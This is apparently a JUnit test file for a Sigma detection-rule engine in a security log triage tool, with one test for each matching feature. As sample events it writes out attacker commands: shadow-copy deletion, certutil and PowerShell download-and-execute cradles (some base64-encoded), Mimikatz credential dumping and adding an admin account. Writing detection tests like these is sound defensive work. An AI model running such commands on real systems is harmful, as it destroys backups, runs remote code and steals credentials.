package io.cybershield.shield.gateway.triage.rules;

import org.junit.jupiter.api.Test;

import java.nio.charset.StandardCharsets;
import java.util.Base64;
import java.util.List;

import static io.cybershield.shield.gateway.triage.rules.RuleTesting.event;
import static io.cybershield.shield.gateway.triage.rules.RuleTesting.line;
import static io.cybershield.shield.gateway.triage.rules.RuleTesting.matches;
import static io.cybershield.shield.gateway.triage.rules.RuleTesting.oneRule;
import static org.assertj.core.api.Assertions.assertThat;

/** Sigma's value semantics, one test each: plain values, lists, modifiers, wildcards, null and keywords. */
class FieldMatchingTest {

  @Test
  void aPlainValueMatchesTheWholeFieldIgnoringCase() {
    RuleSet rules = oneRule("""
        sel:
          Image: 'C:\\Windows\\System32\\vssadmin.exe'
        condition: sel""");
    assertThat(matches(rules, event("Image", "c:\\windows\\system32\\VSSADMIN.EXE"))).isTrue();
    assertThat(matches(rules, event("Image", "C:\\Windows\\System32\\vssadmin.exe.bak"))).isFalse();
    assertThat(matches(rules, event("Image", "D:\\C:\\Windows\\System32\\vssadmin.exe"))).isFalse();
    assertThat(matches(rules, event("ParentImage", "C:\\Windows\\System32\\vssadmin.exe"))).isFalse();
  }

  @Test
  void fieldNamesAreLookedUpExactlyThenIgnoringCase() {
    RuleSet rules = oneRule("""
        sel:
          CommandLine: whoami
        condition: sel""");
    assertThat(matches(rules, event("commandline", "whoami"))).isTrue();
  }

  @Test
  void aMapIsAnAndOfItsFields() {
    RuleSet rules = oneRule("""
        sel:
          EventID: 4625
          LogonType: 3
        condition: sel""");
    assertThat(matches(rules, event("EventID", "4625", "LogonType", "3"))).isTrue();
    assertThat(matches(rules, event("EventID", "4625", "LogonType", "2"))).isFalse();
    assertThat(matches(rules, event("EventID", "4625"))).isFalse();
  }

  @Test
  void aListOfMapsIsAnOr() {
    RuleSet rules = oneRule("""
        sel:
          - Image|endswith: '\\certutil.exe'
          - OriginalFileName: CertUtil.exe
        condition: sel""");
    assertThat(matches(rules, event("Image", "C:\\Windows\\certutil.exe"))).isTrue();
    assertThat(matches(rules, event("Image", "C:\\tmp\\x.exe", "OriginalFileName", "certutil.exe"))).isTrue();
    assertThat(matches(rules, event("Image", "C:\\tmp\\x.exe", "OriginalFileName", "x.exe"))).isFalse();
  }

  @Test
  void aValueListIsAnOr() {
    RuleSet rules = oneRule("""
        sel:
          EventID: [4624, 4625]
        condition: sel""");
    assertThat(matches(rules, event("EventID", "4624"))).isTrue();
    assertThat(matches(rules, event("EventID", "4625"))).isTrue();
    assertThat(matches(rules, event("EventID", "4626"))).isFalse();
  }

  @Test
  void anyValueOfAMultiValuedFieldCanMatch() {
    RuleSet rules = oneRule("""
        sel:
          user.groups: system:masters
        condition: sel""");
    assertThat(matches(rules, event("user.groups", "system:authenticated", "user.groups", "system:masters")))
        .isTrue();
  }

  @Test
  void containsStartswithEndswith() {
    RuleSet contains = oneRule("""
        sel:
          CommandLine|contains: 'delete shadows'
        condition: sel""");
    RuleSet starts = oneRule("""
        sel:
          CommandLine|startswith: 'vssadmin'
        condition: sel""");
    RuleSet ends = oneRule("""
        sel:
          CommandLine|endswith: '/quiet'
        condition: sel""");
    String command = "VSSADMIN.exe Delete Shadows /all /quiet";
    assertThat(matches(contains, event("CommandLine", command))).isTrue();
    assertThat(matches(starts, event("CommandLine", command))).isTrue();
    assertThat(matches(ends, event("CommandLine", command))).isTrue();
    assertThat(matches(contains, event("CommandLine", "vssadmin list shadows"))).isFalse();
    assertThat(matches(starts, event("CommandLine", "cmd /c vssadmin"))).isFalse();
    assertThat(matches(ends, event("CommandLine", "/quiet /all"))).isFalse();
  }

  @Test
  void allMakesAValueListAnAnd() {
    RuleSet rules = oneRule("""
        sel:
          CommandLine|contains|all: [delete, shadow]
        condition: sel""");
    assertThat(matches(rules, event("CommandLine", "vssadmin delete shadows /all"))).isTrue();
    assertThat(matches(rules, event("CommandLine", "vssadmin list shadows"))).isFalse();
    assertThat(matches(rules, event("CommandLine", "del file.txt"))).isFalse();
  }

  @Test
  void starAndQuestionMarkAreWildcards() {
    RuleSet rules = oneRule("""
        sel:
          Image: 'C:\\Users\\\\*\\AppData\\Local\\Temp\\\\?.exe'
        condition: sel""");
    assertThat(matches(rules, event("Image", "C:\\Users\\bob\\AppData\\Local\\Temp\\a.exe"))).isTrue();
    assertThat(matches(rules, event("Image", "c:\\users\\Alice Smith\\appdata\\local\\temp\\Z.EXE"))).isTrue();
    assertThat(matches(rules, event("Image", "C:\\Users\\bob\\AppData\\Local\\Temp\\ab.exe"))).isFalse();
    assertThat(matches(rules, event("Image", "C:\\Users\\bob\\Documents\\a.exe"))).isFalse();
  }

  @Test
  void aWildcardInsideContainsStillMeansAnyText() {
    RuleSet rules = oneRule("""
        sel:
          CommandLine|contains: 'net* user'
        condition: sel""");
    assertThat(matches(rules, event("CommandLine", "cmd /c net1 user admin P@ss /add"))).isTrue();
    assertThat(matches(rules, event("CommandLine", "cmd /c ne user"))).isFalse();
  }

  @Test
  void anEscapedStarOrQuestionMarkIsLiteral() {
    RuleSet rules = oneRule("""
        sel:
          Query: 'SELECT \\* FROM users\\?'
        condition: sel""");
    assertThat(matches(rules, event("Query", "select * from users?"))).isTrue();
    assertThat(matches(rules, event("Query", "select name from users?"))).isFalse();
    assertThat(matches(rules, event("Query", "select * from usersX"))).isFalse();
  }

  @Test
  void aDoubleBackslashIsOneAndOtherBackslashesStay() {
    RuleSet rules = oneRule("""
        sel:
          TargetObject|contains: 'HKLM\\\\Software\\Run'
        condition: sel""");
    assertThat(matches(rules, event("TargetObject", "HKLM\\Software\\Run\\evil"))).isTrue();
    assertThat(matches(rules, event("TargetObject", "HKLM\\\\Software\\Run\\evil"))).isFalse();
  }

  @Test
  void reSearchesCaseSensitivelyUnlessTold() {
    RuleSet sensitive = oneRule("""
        sel:
          CommandLine|re: '-[Ee]nc(odedcommand)? [A-Za-z0-9+/=]{20,}'
        condition: sel""");
    assertThat(matches(sensitive, event("CommandLine",
        "powershell.exe -nop -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQA"))).isTrue();
    assertThat(matches(sensitive, event("CommandLine", "powershell.exe -ENC SQBFAFgAIAAoAE4AZQB3AC0ATwBi")))
        .isFalse();
    RuleSet inline = oneRule("""
        sel:
          CommandLine|re: '(?i)invoke-mimikatz'
        condition: sel""");
    assertThat(matches(inline, event("CommandLine", "IEX; INVOKE-MIMIKATZ -DumpCreds"))).isTrue();
    RuleSet flag = oneRule("""
        sel:
          CommandLine|re|i: 'invoke-mimikatz'
        condition: sel""");
    assertThat(matches(flag, event("CommandLine", "IEX; Invoke-Mimikatz"))).isTrue();
    assertThat(matches(flag, event("CommandLine", "Invoke-WebRequest"))).isFalse();
  }

  @Test
  void cidrMatchesIpv4AndIpv6Networks() {
    RuleSet rules = oneRule("""
        sel:
          src_ip|cidr: ['10.0.0.0/8', '192.168.1.0/24', 'fd00::/8']
        condition: sel""");
    assertThat(matches(rules, event("src_ip", "10.200.3.4"))).isTrue();
    assertThat(matches(rules, event("src_ip", "192.168.1.77"))).isTrue();
    assertThat(matches(rules, event("src_ip", "::ffff:10.1.2.3"))).isTrue();
    assertThat(matches(rules, event("src_ip", "fd12:3456::1"))).isTrue();
    assertThat(matches(rules, event("src_ip", "192.168.2.1"))).isFalse();
    assertThat(matches(rules, event("src_ip", "11.0.0.1"))).isFalse();
    assertThat(matches(rules, event("src_ip", "2001:db8::1"))).isFalse();
    assertThat(matches(rules, event("src_ip", "not-an-ip.example"))).isFalse();
    assertThat(matches(rules, event("src_ip", "10.0.0.256"))).isFalse();
  }

  @Test
  void windashMatchesEverySpellingOfADashedFlag() {
    RuleSet rules = oneRule("""
        sel:
          CommandLine|windash|contains: ' -urlcache '
        condition: sel""");
    assertThat(matches(rules, event("CommandLine", "certutil.exe -urlcache -f http://x/a.exe a.exe"))).isTrue();
    assertThat(matches(rules, event("CommandLine", "certutil.exe /urlcache /f http://x/a.exe a.exe"))).isTrue();
    assertThat(matches(rules, event("CommandLine", "certutil.exe \u2013urlcache -f http://x/a.exe"))).isTrue();
    assertThat(matches(rules, event("CommandLine", "certutil.exe \u2014urlcache -f http://x/a.exe"))).isTrue();
    assertThat(matches(rules, event("CommandLine", "certutil.exe urlcache -f http://x/a.exe"))).isFalse();
  }

  @Test
  void windashCombinesSeveralFlags() {
    RuleSet rules = oneRule("""
        sel:
          CommandLine|windash|contains|all: ['-nop', '-w hidden']
        condition: sel""");
    assertThat(matches(rules, event("CommandLine", "powershell /nop \u2013w hidden -c iex"))).isTrue();
    assertThat(matches(rules, event("CommandLine", "powershell /nop -c iex"))).isFalse();
  }

  @Test
  void base64MatchesTheEncodedValue() {
    RuleSet rules = oneRule("""
        sel:
          Payload|base64: 'whoami /all'
        condition: sel""");
    assertThat(matches(rules, event("Payload", "d2hvYW1pIC9hbGw="))).isTrue();
    assertThat(matches(rules, event("Payload", "d2hvYW1pIC9ncm91cHM="))).isFalse();
  }

  @Test
  void base64offsetFindsTheValueAtAnyOffsetOfALongerText() {
    RuleSet rules = oneRule("""
        sel:
          CommandLine|base64offset|contains: 'Net.WebClient'
        condition: sel""");
    for (String prefix : List.of("IEX (New-Object", "IEX (New-Object ", "IEX (New-Object  ")) {
      String encoded = Base64.getEncoder().encodeToString(
          (prefix + "Net.WebClient).DownloadString('http://198.51.100.7/a')").getBytes(StandardCharsets.UTF_8));
      assertThat(matches(rules, event("CommandLine", "powershell -e " + encoded))).as(prefix).isTrue();
    }
    String other = Base64.getEncoder().encodeToString("Get-ChildItem C:\\Users".getBytes(StandardCharsets.UTF_8));
    assertThat(matches(rules, event("CommandLine", "powershell -e " + other))).isFalse();
  }

  @Test
  void wideBase64offsetFindsPowerShellEncodedCommands() {
    RuleSet rules = oneRule("""
        sel:
          CommandLine|wide|base64offset|contains: 'DownloadString'
        condition: sel""");
    for (String prefix : List.of("(New-Object Net.WebClient).", "$wc.", "$web.")) {
      String encoded = Base64.getEncoder().encodeToString(
          (prefix + "DownloadString('http://203.0.113.9/p.ps1')").getBytes(StandardCharsets.UTF_16LE));
      assertThat(matches(rules, event("CommandLine", "powershell.exe -EncodedCommand " + encoded))).as(prefix)
          .isTrue();
    }
  }

  @Test
  void base64IsCaseSensitive() {
    RuleSet rules = oneRule("""
        sel:
          Payload|base64|contains: 'whoami'
        condition: sel""");
    assertThat(matches(rules, event("Payload", "xx d2hvYW1p xx"))).isTrue();
    assertThat(matches(rules, event("Payload", "xx D2HVYW1P xx"))).isFalse();
  }

  @Test
  void existsTrueAndFalse() {
    RuleSet present = oneRule("""
        sel:
          ParentCommandLine|exists: true
        condition: sel""");
    RuleSet absent = oneRule("""
        sel:
          ParentCommandLine|exists: false
        condition: sel""");
    assertThat(matches(present, event("ParentCommandLine", "explorer.exe"))).isTrue();
    assertThat(matches(present, event("Image", "x.exe"))).isFalse();
    assertThat(matches(absent, event("Image", "x.exe"))).isTrue();
    assertThat(matches(absent, event("ParentCommandLine", "explorer.exe"))).isFalse();
  }

  @Test
  void numericComparisons() {
    RuleSet gt = oneRule("""
        sel:
          bytes_out|gt: 100000000
        condition: sel""");
    RuleSet gte = oneRule("""
        sel:
          status|gte: 500
        condition: sel""");
    RuleSet lt = oneRule("""
        sel:
          DestinationPort|lt: 1024
        condition: sel""");
    RuleSet lte = oneRule("""
        sel:
          GrantedAccess|lte: 0x10
        condition: sel""");
    assertThat(matches(gt, event("bytes_out", "250000000"))).isTrue();
    assertThat(matches(gt, event("bytes_out", "100000000"))).isFalse();
    assertThat(matches(gt, event("bytes_out", "lots"))).isFalse();
    assertThat(matches(gte, event("status", "500"))).isTrue();
    assertThat(matches(gte, event("status", "499"))).isFalse();
    assertThat(matches(lt, event("DestinationPort", "445"))).isTrue();
    assertThat(matches(lt, event("DestinationPort", "1024"))).isFalse();
    assertThat(matches(lte, event("GrantedAccess", "0x10"))).isTrue();
    assertThat(matches(lte, event("GrantedAccess", "0x1010"))).isFalse();
    assertThat(matches(lte, event("GrantedAccess", "NaN"))).isFalse();
  }

  @Test
  void casedMakesTheComparisonCaseSensitive() {
    RuleSet rules = oneRule("""
        sel:
          CommandLine|cased|contains: 'ReflectivePEInjection'
        condition: sel""");
    assertThat(matches(rules, event("CommandLine", "Invoke-ReflectivePEInjection -PEPath x"))).isTrue();
    assertThat(matches(rules, event("CommandLine", "invoke-reflectivepeinjection -pepath x"))).isFalse();
  }

  @Test
  void nullMatchesAnAbsentOrEmptyField() {
    RuleSet rules = oneRule("""
        sel:
          EventID: 4688
          ParentCommandLine: null
        condition: sel""");
    assertThat(matches(rules, event("EventID", "4688"))).isTrue();
    assertThat(matches(rules, event("EventID", "4688", "ParentCommandLine", ""))).isTrue();
    assertThat(matches(rules, event("EventID", "4688", "ParentCommandLine", "explorer.exe"))).isFalse();
  }

  @Test
  void nullInAValueListIsOneOfTheAlternatives() {
    RuleSet rules = oneRule("""
        sel:
          IpAddress: [null, '-', '127.0.0.1']
        condition: sel""");
    assertThat(matches(rules, event("Other", "x"))).isTrue();
    assertThat(matches(rules, event("IpAddress", "-"))).isTrue();
    assertThat(matches(rules, event("IpAddress", "127.0.0.1"))).isTrue();
    assertThat(matches(rules, event("IpAddress", "203.0.113.4"))).isFalse();
  }

  @Test
  void numbersAndHexAreMatchedAsWritten() {
    RuleSet rules = oneRule("""
        sel:
          EventID: 10
          GrantedAccess: 0x1010
        condition: sel""");
    assertThat(matches(rules, event("EventID", "10", "GrantedAccess", "0x1010"))).isTrue();
    assertThat(matches(rules, event("EventID", "10", "GrantedAccess", "4112"))).isFalse();
  }

  @Test
  void aListOfStringsIsKeywordsAnywhereInTheLine() {
    RuleSet rules = oneRule("""
        keywords:
          - 'vssadmin delete shadows'
          - 'wbadmin delete*catalog'
        condition: keywords""");
    assertThat(matches(rules, line("Mar 3 host cmd[1]: VSSADMIN Delete Shadows /all /quiet"))).isTrue();
    assertThat(matches(rules, line("wbadmin DELETE systemstatebackup catalog -quiet"))).isTrue();
    assertThat(matches(rules, line("vssadmin list shadows"))).isFalse();
  }

  @Test
  void aKeywordsKeyInAMapIsTheRawLineToo() {
    RuleSet rules = oneRule("""
        sel:
          keywords|all: ['mimikatz', 'sekurlsa']
          EventID: 4104
        condition: sel""");
    assertThat(matches(rules, event(io.cybershield.shield.gateway.triage.logs.LogSource.AUTO,
        "ScriptBlockText=mimikatz.exe sekurlsa::logonpasswords", "EventID", "4104"))).isTrue();
    assertThat(matches(rules, event(io.cybershield.shield.gateway.triage.logs.LogSource.AUTO,
        "ScriptBlockText=mimikatz.exe", "EventID", "4104"))).isFalse();
  }

  @Test
  void aSingleStringSelectionIsOneKeyword() {
    RuleSet rules = oneRule("""
        kw: 'Invoke-Mimikatz'
        condition: kw""");
    assertThat(matches(rules, line("ps: invoke-mimikatz -dumpcreds"))).isTrue();
    assertThat(matches(rules, line("ps: Get-Process"))).isFalse();
  }
}
